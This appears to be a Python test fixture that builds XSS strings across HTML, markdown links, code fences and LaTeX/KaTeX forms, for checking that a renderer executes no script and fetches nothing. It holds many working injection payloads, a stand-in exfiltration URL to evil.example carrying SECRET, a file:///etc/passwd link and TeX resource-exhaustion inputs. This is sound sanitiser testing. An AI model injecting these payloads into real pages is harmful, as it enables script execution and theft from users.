"""Texts that try to run a script or to send a request when a careless page shows them.

Every script among them calls ``alert``, which the tests count; every address points to
``evil.example``, which no page may ask for.
"""

from __future__ import annotations

EVIL = "http://evil.example/x?d=SECRET"
_HTML = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    f'<script src="{EVIL}"></script>',
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'//",
    f'<img src="{EVIL}">',
    f'<img srcset="{EVIL} 1x">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    f'<svg><image href="{EVIL}"/></svg>',
    f'<svg><use href="{EVIL}#x"/></svg>',
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    f'<iframe src="{EVIL}"></iframe>',
    "<iframe src='javascript:parent.alert(1)'></iframe>",
    f'<object data="{EVIL}"></object>',
    f'<embed src="{EVIL}">',
    f'<link rel=stylesheet href="{EVIL}">',
    f'<link rel=prefetch href="{EVIL}">',
    f'<meta http-equiv=refresh content="0;url={EVIL}">',
    f'<base href="{EVIL}">',
    f"<style>@import '{EVIL}';</style>",
    f"<style>body{{background:url({EVIL})}}</style>",
    f"<div style='background:url({EVIL})'>x</div>",
    f'<video src="{EVIL}" autoplay onerror=alert(1)></video>',
    "<video><source onerror=alert(1)></video>",
    f'<audio src="{EVIL}" autoplay onerror=alert(1)>',
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    f'<form action="{EVIL}"><button autofocus onfocus=alert(1)>x</button></form>',
    "<a href='javascript:alert(1)' autofocus onfocus=alert(1)>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<p id=x tabindex=1 autofocus onfocus=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<img \x00src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "<x onclick=alert(1) contenteditable autofocus onfocus=alert(1)>x",
    "<form id=x></form><button form=x formaction=javascript:alert(1)>x",
    "<isindex type=image src=1 onerror=alert(1)>",
    f'<table background="{EVIL}"><tr><td>x</table>',
    f'<portal src="{EVIL}"></portal>',
    f'<picture><source srcset="{EVIL}"><img></picture>',
    f'<img src=x ping="{EVIL}" lowsrc="{EVIL}" dynsrc="{EVIL}">',
)
_LINKS = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
    "java&#10;script:alert(1)", "&#106;avascript:alert(1)", "javascript&colon;alert(1)",
    "\x01javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>", "vbscript:alert(1)", "file:///etc/passwd",
    "blob:http://x/1", "//evil.example/x", "/\\evil.example/x", EVIL,
    f"{EVIL}' onerror='alert(1)", f'{EVIL}" onerror="alert(1)', f"{EVIL}><script>alert(1)</script>",
    "filesystem:http://x/1", "intent://x#Intent;end", "view-source:javascript:alert(1)",
    "%6aavascript:alert(1)",
)  # fmt: skip
_LINK_FORMS = (
    "[x]({})", "![x]({})", "<{}>", "[x][r]\n\n[r]: {}", "![x][r]\n\n[r]: {}",
    "[x](<{}> 'onclick=alert(1)')", "[![x]({})](http://x.example)", "{}",
)  # fmt: skip
_HTML_FORMS = ("{}", "text {} text", "- {}\n- x", "> {}", "| a |\n|---|\n| {} |", "# {}")
_CODE = (
    "```html\n{}\n```",
    "```{}\nx\n```",
    '```" onload="alert(1)\n{}\n```',
    "`{}`",
    "    {}",
    "~~~<img src=x onerror=alert(1)>\n{}\n~~~",
)
_TEX = (
    r"\href{javascript:alert(1)}{x}",
    r"\url{javascript:alert(1)}",
    rf"\href{{{EVIL}}}{{x}}",
    rf"\includegraphics{{{EVIL}}}",
    rf"\htmlStyle{{background:url({EVIL})}}{{x}}",
    r"\htmlData{onclick=alert(1)}{x}",
    r"\htmlId{app}{x}",
    r"\htmlClass{notices}{x}",
    rf"\textcolor{{url({EVIL})}}{{x}}",
    rf"\colorbox{{red;background:url({EVIL})}}{{x}}",
    r"\color{red\" onload=\"alert(1)}{x}",
    rf'\text{{ style="background:url({EVIL})"}}',
    rf'\text{{ data-style="background:url({EVIL})"}}',
    r"\text{<img src=x onerror=alert(1)>}",
    r"x</annotation></semantics></math><img src=x onerror=alert(1)>",
    r"</span><script>alert(1)</script>",
    r"\unicode{<script>alert(1)</script>}",
    r"\rule{99999em}{99999em}",
    r"\kern-99999em x\raisebox{99999em}{x}",
    r"\def\a{\a\a}\a",
    r"\gdef\frac{<script>alert(1)</script>}\frac",
    "{" * 3000,
    r"\sqrt{" * 900 + "}" * 900,
)
_TEX_FORMS = (r"\({}\)", "$${}$$", "${}$", "```math\n{}\n```", "- **${0}$** | $$ {0} $$", "$${}")


def xss_strings() -> list[str]:
    """All of them, each once."""
    html = [form.format(text) for text in _HTML for form in _HTML_FORMS]
    links = [form.format(link) for link in _LINKS for form in _LINK_FORMS]
    code = [form.format(text) for text in _HTML[:12] for form in _CODE]
    formulas = [form.format(text) for text in (*_TEX, *_HTML[:12]) for form in _TEX_FORMS]
    return list(dict.fromkeys(html + links + code + formulas))
